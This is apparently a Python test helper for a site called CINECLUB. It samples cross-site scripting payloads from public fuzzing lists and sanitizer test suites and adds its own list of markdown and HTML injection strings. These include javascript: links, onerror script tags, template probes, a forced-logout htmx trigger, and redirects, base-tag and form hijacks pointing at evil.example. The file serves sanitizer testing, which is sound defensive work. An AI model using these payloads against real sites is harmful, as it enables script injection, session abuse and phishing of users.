"""Attack strings of `CINECLUB_TEST_DATA/abuse-xss`, spread over all its lists, and some of ours."""

import json
import re
from pathlib import Path

LONGEST = 2_000
# What the lists do not have: our own marks around theirs.
OURS = [
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "||<img src=x onerror=alert(1)>||",
    "[[<img src=x onerror=alert(1)> (1948)]]",
    "@<img src=x onerror=alert(1)>",
    '> <script>alert(1)</script>\n\n"><svg onload=alert(1)>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '[a](http://x.example/"onmouseover="alert(1))',
    "[a](//evil.example/'\"><img src=x onerror=alert(1)>)",
    "{{7*7}} {% raw %} ${alert(1)} <%= 1 %>",
    "\u202e<script>alert(1)</script>\u2066",
    "<img src=//evil.example/x.png>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=q><button>x',
    '<a href="http://evil.example/" style="position:fixed;inset:0">x</a>',
]


def sample(folder: Path, number: int) -> list[str]:
    """About `number` strings, evenly from each list, and ours. The same in every run."""
    lists = [_lines(file) for file in sorted(folder.rglob("Intruders/*.txt"))]
    lists.append([_first_part(file) for file in sorted(folder.glob("bleach/*.test"))])
    lists.append(_dompurify(folder / "dompurify" / "expect.mjs"))
    each = -(-number // len(lists))
    chosen = [text for texts in lists for text in _spread(texts, each)]
    return list(dict.fromkeys([*OURS, *(text[:LONGEST] for text in chosen if text.strip())]))


def _lines(file: Path) -> list[str]:
    return file.read_text(errors="replace").splitlines()


def _first_part(file: Path) -> str:
    return file.read_text(errors="replace").split("\n--\n")[0]


def _dompurify(file: Path) -> list[str]:
    found = re.findall(r'"payload": ("(?:[^"\\]|\\.)*")', file.read_text())
    return [json.loads(text) for text in found]


def _spread(texts: list[str], number: int) -> list[str]:
    step = max(1, len(texts) // number)
    return texts[::step][:number]
